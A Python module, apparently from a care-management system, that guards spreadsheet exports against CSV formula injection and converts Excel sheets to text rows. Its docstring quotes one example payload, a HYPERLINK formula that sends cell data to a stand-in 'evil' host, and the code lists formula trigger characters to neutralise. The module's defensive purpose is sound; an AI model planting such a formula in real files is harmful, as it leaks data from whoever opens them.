"""Cells safe to open in a spreadsheet (formula injection, OWASP "CSV Injection").

Excel, WPS and LibreOffice run a cell that begins with `=`, `+`, `-` or `@` (a tab or carriage
return before one hides it) as a formula: a resident's name or an institution's name typed as
`=HYPERLINK("http://evil/?"&A1, "click")` would send the sheet's data away when opened. A text
value starting with one of these gets a leading apostrophe, which the spreadsheet shows as
plain text. The full-width forms are included: a Chinese input method types them, and some
spreadsheets read them as the ASCII ones. Numbers are left alone (-3 is a number, not a
formula). Only exports people open are neutralised; files a CareGrid importer reads back
(the layout's institutions CSV) keep their values exact.
"""

from __future__ import annotations

import io
from datetime import date, datetime, time
from typing import TypeVar

from openpyxl import load_workbook

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")

T = TypeVar("T")


def safe_cell(value: T) -> T | str:
    """The value, with an apostrophe in front when it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return "'" + value
    return value


def safe_row(values: list[T]) -> list[T | str]:
    return [safe_cell(v) for v in values]


def xlsx_rows(data: bytes) -> list[list[str]]:
    """The first sheet of an Excel workbook as text, row by row as the sheet numbers them, with
    trailing blank rows dropped: a date cell reads 2025-01-31, a whole number 12 (not 12.0), a
    boolean true or false, so a sheet is read as its CSV export would be. Raises ValueError for
    a file that is not a readable workbook."""
    try:
        book = load_workbook(io.BytesIO(data), read_only=True, data_only=True)
    except Exception:  # openpyxl raises many kinds for a damaged file
        raise ValueError("is not a readable Excel workbook") from None
    try:
        rows = [
            [_text(v) for v in values] for values in book.worksheets[0].iter_rows(values_only=True)
        ]
    finally:
        book.close()
    while rows and not any(c.strip() for c in rows[-1]):
        rows.pop()
    return rows


def _text(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, datetime):
        return value.date().isoformat() if value.time() == time() else value.isoformat()
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    return str(value)
